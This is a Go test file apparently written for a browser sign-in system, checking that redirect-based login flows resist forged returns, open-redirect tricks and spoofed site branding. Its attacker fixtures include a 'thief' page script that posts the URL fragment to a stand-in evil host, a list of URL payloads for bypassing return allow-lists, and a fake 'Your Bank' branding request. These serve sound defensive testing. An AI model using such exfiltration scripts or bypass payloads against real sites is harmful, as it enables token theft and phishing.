package testbrowser_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/navid-login/navid/agent/browserid"
	"github.com/navid-login/navid/agent/issuer"
	"github.com/navid-login/navid/testbrowser"
	"github.com/navid-login/navid/testbrowser/site/idp"
)

// inFragment writes a value as it goes into fragments.
func inFragment(t *testing.T, value any) string {
	t.Helper()
	text, err := json.Marshal(value)
	require.NoError(t, err)
	return strings.ReplaceAll(url.QueryEscape(string(text)), "+", "%20")
}

// newSeveredFlow opens the sample site with the header that makes its tab go to the dialog itself.
func newSeveredFlow(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) *flow {
	w.Handle(testbrowser.RP, withHeader(w.Site(testbrowser.RP), "Cross-Origin-Opener-Policy", "same-origin"))
	return newFlow(t, w, b, testbrowser.RP)
}

// startByRedirect clicks on the site's button, and waits for a screen of the dialog in the same tab.
func (f *flow) startByRedirect(screen string) {
	f.t.Helper()
	f.site.Click("#sign-in")
	f.site.WaitScreen(screen)
}

// Neither the request nor the question to the provider nor what came back stays in the address bar or in history.
func TestRedirectLeavesNoFragment(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		clean := func(page *testbrowser.Page) {
			t.Helper()
			for _, address := range page.History() {
				assert.NotContains(t, address, "#")
			}
		}
		f := newSeveredFlow(t, w, b)
		f.startByRedirect("enter")
		clean(f.site)
		f.site.Type("#email", testbrowser.Alice)
		f.site.Click("#next")
		f.site.Wait(`document.querySelector('#password')`)
		clean(f.site)
		f.signInAt(f.site)
		f.site.WaitText("#address", testbrowser.Alice)
		clean(f.site)

		assert.Equal(t, []string{}, testbrowser.Eval[[]string](f.site, `Object.keys(sessionStorage)`), "nothing stays at the site")
		f.site.Go(w.URL(testbrowser.Host, "/"))
		assert.Equal(t, []string{}, testbrowser.Eval[[]string](f.site, `Object.keys(sessionStorage)`), "nor of the journey")
		kept := storage(w, b)
		require.Len(t, kept.Keys, 1, "the pending key is committed, and gone")
		assert.Contains(t, kept.Keys[0], testbrowser.Alice)
	})
}

// Who gives up, at the dialog or at the provider, comes back to the site or to the first question.
func TestRedirectCancelled(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		f := newSeveredFlow(t, w, b)
		f.startByRedirect("enter")
		f.site.Type("#email", testbrowser.Alice)
		f.site.Click("#next")
		f.site.Wait(`document.querySelector('#password')`)
		f.site.Click("#cancel")
		f.site.WaitScreen("enter")
		assert.Equal(t, testbrowser.Alice, testbrowser.Eval[string](f.site, `document.querySelector('#email').value`))
		f.site.Click("#cancel")
		f.site.Wait(`location.host === 'rp.test' && document.querySelector('#sign-in') && !location.hash`)
		assert.Empty(t, w.Requests().To(testbrowser.RP).Path("/login"))
		assert.Equal(t, kept{Keys: []string{}, Other: []string{}}, storage(w, b))

		f.signInByRedirect(testbrowser.Alice) // and the next click works
	})
}

// The browser's Back, from the provider's page, leads to the question, not to the provider again.
func TestRedirectBackButton(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		f := newSeveredFlow(t, w, b)
		f.startByRedirect("enter")
		f.site.Type("#email", testbrowser.Alice)
		f.site.Click("#next")
		f.site.Wait(`document.querySelector('#password')`)
		testbrowser.Eval[bool](f.site, `(history.back(), true)`)
		f.site.WaitScreen("enter")
		f.site.Type("#email", testbrowser.Bob)
		f.site.Click("#next")
		f.signInAt(f.site)
		f.site.WaitText("#address", testbrowser.Bob)
	})
}

// Not the person's own device: the pending key has waited in the browser for the tab to come back, and is gone at the end (G6).
func TestRedirectOnSharedDevice(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		f := newSeveredFlow(t, w, b)
		f.startByRedirect("enter")
		f.site.Type("#email", testbrowser.Alice)
		f.site.Click("#not-my-device")
		f.site.Click("#next")
		f.signInAt(f.site)
		f.site.WaitScreen("done")
		f.site.Click("#close")
		f.site.WaitText("#address", testbrowser.Alice)
		assert.Equal(t, kept{Keys: []string{}, Other: []string{}}, storage(w, b))
	})
}

// A return that the site's page has not asked for does nothing (abuse test 21): without a request, with another state, in another tab, or
// once more. Nor does one at the login host.
func TestForgedReturns(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		f := newSeveredFlow(t, w, b)
		f.site.BeforeLoad(`if (location.host === 'rp.test' && location.hash) sessionStorage.setItem('seen', location.href)`)
		f.signInByRedirect(testbrowser.Alice)
		seen := testbrowser.Eval[string](f.site, `sessionStorage.getItem('seen')`)
		require.Contains(t, seen, "#navid=")
		logins := w.Requests().To(testbrowser.RP).Path("/login")
		require.Len(t, logins, 1)
		f.signOut()

		ignored := func(page *testbrowser.Page, address string) {
			t.Helper()
			page.Go("about:blank")
			page.Go(address)
			page.Wait(`document.querySelector('#sign-in') && !location.hash`)
		}
		ignored(f.site, seen)                             // a replay
		ignored(b.Open(w.URL(testbrowser.RP, "/")), seen) // another tab
		forged := w.URL(testbrowser.RP, "/") + "#navid=" + inFragment(t, map[string]string{"state": strings.Repeat("0", 32), "assertion": "x~y"})
		ignored(f.site, forged)
		f.startByRedirect("pick") // now one is expected, of another state
		ignored(f.site, forged)
		f.startByRedirect("pick")
		ignored(f.site, seen)
		assert.Len(t, w.Requests().To(testbrowser.RP).Path("/login"), 1)

		for _, query := range []string{"AUTH_RETURN", "AUTH_RETURN_CANCEL", "PROVISION_RETURN"} {
			page := b.Open(w.URL(testbrowser.Host, "/sign_in?"+query) + "#navid=" + inFragment(t, map[string]string{"attempt": "a", "certificate": "c"}))
			page.WaitScreen("return")
			assert.NotContains(t, page.URL(), "#")
			page.Close()
		}
	})
}

// thief is a site that passes on whatever arrives in a fragment.
const thief = head + `<script>fetch('/stolen', { method: 'POST', body: location.href })</script>`

// victim is a site with a page for each way of sending people on, wherever a stranger likes.
func victim(permission http.HandlerFunc) http.HandlerFunc {
	const out = "https://" + testbrowser.Evil + "/"
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch {
		case r.URL.Path == "/.well-known/navid":
			permission(w, r)
		case strings.HasSuffix(r.URL.Path, "302"):
			http.Redirect(w, r, out, http.StatusFound)
		case strings.HasSuffix(r.URL.Path, "307"):
			http.Redirect(w, r, out, http.StatusTemporaryRedirect)
		case strings.HasSuffix(r.URL.Path, "meta"):
			_, _ = w.Write([]byte(head + `<meta http-equiv="refresh" content="0;url=` + out + `">`))
		default:
			_, _ = w.Write([]byte(head + `<script>location.href = "` + out + `" + location.hash</script>`))
		}
	}
}

func permit(paths string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		_, _ = w.Write([]byte(`{"returnTo": ` + paths + `}`))
	}
}

// Somebody who is known to the browser follows a link of evil.test, which asks for a sign-in at victim.test that shall come back to a page
// which sends people on (security.md E3, G1; abuse test 1). Where victim.test has not listed that page nothing goes there, let alone further.
func TestReturnOverRedirector(t *testing.T) {
	const victimSite = "victim.test"
	w := testbrowser.NewWorld(t)
	b := testbrowser.NewBrowser(t, w, testbrowser.ThirdPartyBlocked)
	t.Parallel()
	b.AllowConsole("404|CORS|Failed to load resource|Content Security Policy") // the browser says why it does not get the list
	makeKnown(t, w, b, testbrowser.Alice)
	w.HandlePage(testbrowser.Evil, thief)
	for name, c := range map[string]struct {
		returnTo   string
		permission http.HandlerFunc
	}{
		"302":                    {"/302", permit(`["/"]`)},
		"307":                    {"/307", permit(`["/"]`)},
		"meta":                   {"/meta", permit(`["/"]`)},
		"script":                 {"/script", permit(`["/"]`)},
		"no list":                {"/302", http.NotFound},
		"a list that is no list": {"/302", permit(`"/302"`)},
		"a list for itself only": {"/302", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(`{"returnTo": ["/302"]}`)) }},
		"a list of evil.test": {"/302", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.test/list", http.StatusFound)
		}},
		"query":                 {"/302?x=/", permit(`["/302?x=/", "/"]`)},
		"two slashes":           {"//evil.test/302", permit(`["//evil.test/302"]`)},
		"slashes in the middle": {"/a//302", permit(`["/a//302"]`)},
		"escaped slash":         {"/%2fevil.test/302", permit(`["/%2fevil.test/302"]`)},
		"backslash":             {`/\evil.test/302`, permit(`["/\\evil.test/302"]`)},
		"dot segments":          {"/a/../302", permit(`["/a/../302", "/302"]`)},
		"another site":          {"https://evil.test/", permit(`["https://evil.test/"]`)},
		"end of the host":       {".evil.test/", permit(`[".evil.test/"]`)},
		"user information":      {"@evil.test/", permit(`["@evil.test/"]`)},
	} {
		w.HandleFunc(victimSite, victim(c.permission))
		link := w.URL(testbrowser.Host, "/sign_in?REDIRECT") + "#" + inFragment(t, map[string]any{
			"origin": "https://" + victimSite, "state": strings.Repeat("e", 32), "params": map[string]string{"returnTo": c.returnTo},
		})
		page := b.Open(link)
		page.WaitScreen("error")
		assert.Contains(t, []string{"return_not_allowed", "invalid_options"}, page.Text("#error-code"), name)
		page.Close()
		visits := w.Requests().To(victimSite)
		for _, visit := range visits {
			assert.Equal(t, "/.well-known/navid", visit.URL.Path, name)
		}
		for _, request := range w.Requests().To(testbrowser.Evil) {
			assert.NotContains(t, []string{"/", "/302", "/stolen"}, request.URL.Path, name)
		}
	}

	// The control: what the site has listed is gone back to, and this site sends it on.
	w.HandleFunc(victimSite, victim(permit(`["/302"]`)))
	page := b.Open(w.URL(testbrowser.Host, "/sign_in?REDIRECT") + "#" + inFragment(t, map[string]any{
		"origin": "https://" + victimSite, "state": strings.Repeat("e", 32), "params": map[string]string{"returnTo": "/302"},
	}))
	page.WaitScreen("pick")
	page.Click(".identity")
	page.Wait(`location.host === 'evil.test'`)
}

// A link of evil.test's asks for a sign-in in the name of victim.test (security.md E3), which wants answers at its own page. The link can
// make the site look like nothing but what its own file says, and has the person's address given to no issuer of its choice. For a site
// without the file nothing but its origin is shown.
func TestForgedRequest(t *testing.T) {
	const victimSite = "victim.test"
	w := testbrowser.NewWorld(t)
	b := testbrowser.NewBrowser(t, w, testbrowser.ThirdPartyBlocked)
	t.Parallel()
	b.AllowConsole("404|CORS|Failed to load resource") // the browser says why it does not get the list
	makeKnown(t, w, b, testbrowser.Alice)
	w.HandlePage(testbrowser.Evil, thief)
	link := w.URL(testbrowser.Host, "/sign_in?REDIRECT") + "#" + inFragment(t, map[string]any{
		"origin": "https://" + victimSite, "state": strings.Repeat("e", 32), "params": map[string]string{
			"returnTo": "/", "siteName": "Your Bank", "siteLogo": "https://evil.test/logo", "backgroundColor": "#0f0",
			"termsOfService": "https://evil.test/terms", "privacyPolicy": "https://evil.test/", "experimental_forceIssuer": testbrowser.IdP2,
		},
	})
	w.HandleFunc(victimSite, victim(http.NotFound))
	page := b.Open(link)
	page.WaitScreen("error")
	assert.Equal(t, "return_not_allowed", page.Text("#error-code"))
	assert.NotContains(t, page.Text("body"), "Your Bank")
	page.Close()

	list := http.HandlerFunc(permit(`["/"], "siteName": "Trees", "termsOfService": "/terms", "privacyPolicy": "/privacy"`))
	w.HandlePage(victimSite, head+`<h1>home</h1>`)
	w.Handle(victimSite, wellKnown(list, w.Site(victimSite)))
	page = b.Open(link)
	page.WaitScreen("pick")
	assert.NotContains(t, page.Text("body"), "Your Bank")
	assert.Contains(t, page.Text("#site-name"), "Trees")
	terms := testbrowser.Eval[[]string](page, `[...document.querySelectorAll('#site-terms a')].map(a => a.href)`)
	assert.Equal(t, []string{"https://victim.test/terms", "https://victim.test/privacy"}, terms)
	assert.False(t, testbrowser.Eval[bool](page, `document.documentElement.matches('.branded') || !!document.querySelector('#site-logo')`))
	page.Click(".identity")
	page.WaitText("h1", "home")
	assert.Empty(t, w.Requests().To(testbrowser.Evil))
	assert.Empty(t, w.Requests().To(testbrowser.IdP2))
}

// wellKnown is a site with a file of its own about returns.
func wellKnown(file, site http.Handler) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/.well-known/navid" {
			file.ServeHTTP(w, r)
			return
		}
		site.ServeHTTP(w, r)
	}
}

// Who gives up at the provider's page and comes to the dialog by a link of anybody's is asked again: nothing is signed without a click.
func TestAbandonedJourney(t *testing.T) {
	w := testbrowser.NewWorld(t)
	b := testbrowser.NewBrowser(t, w, testbrowser.ThirdPartyBlocked)
	t.Parallel()
	f := newSeveredFlow(t, w, b)
	f.startByRedirect("enter")
	f.site.Type("#email", testbrowser.Alice)
	f.site.Click("#next")
	f.site.Wait(`document.querySelector('#password')`)
	visitProvider(w, b, testbrowser.Alice) // meanwhile a session begins there: the provider would certify
	f.site.Front()
	f.site.Go(w.URL(testbrowser.Host, "/sign_in?REDIRECT"))
	f.site.WaitScreen("enter")
	assert.Empty(t, w.Requests().To(testbrowser.RP).Path("/login"))
}

// evil.test sends somebody who is signed in at the provider to its provisioning page, with a key of evil.test's own in the fragment
// (security.md G4; abuse test 8). In no relation of windows is a certificate made, or anything told.
func TestStrangerAsksForCertificate(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		b.AllowConsole("it was not https://login.example that sent people here") // the script says so
		b.AllowConsole("frame-ancestors|target origin provided")                 // and the browser, in a frame and at a window
		visitProvider(w, b, testbrowser.Alice)
		asked := w.URL(testbrowser.IdP, idp.ProvisioningPath) + "#navid=" + evilQuestion(t)
		for _, policy := range []string{"no-referrer", "origin", "unsafe-url"} {
			w.HandlePage(testbrowser.Evil, head+`<a id="link" href="`+asked+`" referrerpolicy="`+policy+`">seeds</a>
				<a id="tab" href="`+asked+`" target="_blank" rel="noopener" referrerpolicy="`+policy+`">seeds</a>
				<button id="open">seeds</button><div></div>
				<script>
				const heard = []
				onmessage = ({ data }) => heard.push(String(data))
				document.querySelector('#open').onclick = () => open(document.querySelector('#link').href)
				document.querySelector('div').innerHTML = '<iframe src="' + document.querySelector('#link').href + '"></iframe>'
				</script>`)
			evil := b.Open(w.URL(testbrowser.Evil, "/"))
			for _, page := range []*testbrowser.Page{
				evil.Popup(func() { evil.Click("#open") }),
				evil.Popup(func() { evil.Click("#tab") }),
			} {
				page.WaitText("main", "Confirming your address")
				page.Wait(`!location.hash`)
				page.Close()
			}
			assert.Empty(t, testbrowser.Eval[[]string](evil, `heard`))
			evil.Click("#link")
			evil.Wait(`location.host === 'idp.test' && !location.hash`)
			for _, address := range evil.History() {
				assert.NotContains(t, address, "#")
			}
			evil.Close()
		}
		assert.Empty(t, w.Requests().To(testbrowser.IdP).Path("/certificate"))
		assert.Equal(t, "no redirect", visited(w, "PROVISION_RETURN", "no redirect"))
	})
}

// evilQuestion is a question with a key of evil.test's.
func evilQuestion(t *testing.T) string {
	t.Helper()
	key, err := issuer.GenerateKey(browserid.ES256)
	require.NoError(t, err)
	public, err := key.PublicKey().MarshalJSON()
	require.NoError(t, err)
	return inFragment(t, map[string]any{"attempt": "of evil", "email": testbrowser.Alice, "cert_duration_s": 3600, "publicKey": string(public)})
}

// A provider to which the dialog itself sends people can send them on, with the dialog's referrer: then another provider certifies its key.
// The certificate goes to the login host and is of no use there: it is for no attempt of anybody's.
func TestProviderAsksAnother(t *testing.T) {
	testbrowser.InDefaultProfile(t, func(t *testing.T, w *testbrowser.World, b *testbrowser.Browser) {
		w.IdP.Misbehave(idp.ProvisioningCOOP)
		visitProvider(w, b, testbrowser.Alice)
		other, question := w.Site(testbrowser.IdP2), evilQuestion(t)
		w.HandleFunc(testbrowser.IdP2, func(rw http.ResponseWriter, r *http.Request) {
			if r.URL.Path == idp.ProvisioningPath {
				http.Redirect(rw, r, w.URL(testbrowser.IdP, idp.ProvisioningPath)+"#navid="+question, http.StatusFound)
				return
			}
			other.ServeHTTP(rw, r)
		})
		f := newFlow(t, w, b, testbrowser.RP)
		f.open("enter")
		f.typeAddress(testbrowser.Carol)
		provider := f.dialog.Popup(func() { f.press("#next") })
		provider.WaitClosed() // since nobody has any use for it
		f.dialog.WaitScreen("continue")
		f.press("#cancel")
		f.dialog.WaitClosed()
		assert.Len(t, w.Requests().To(testbrowser.IdP).Path("/certificate"), 1, "it was made")
		for _, host := range []string{testbrowser.IdP2, testbrowser.Evil, testbrowser.RP} {
			assert.Empty(t, w.Requests().To(host).Containing("certificate").Lines())
		}
		assert.Equal(t, kept{Keys: []string{}, Other: []string{}}, storage(w, b))
	})
}
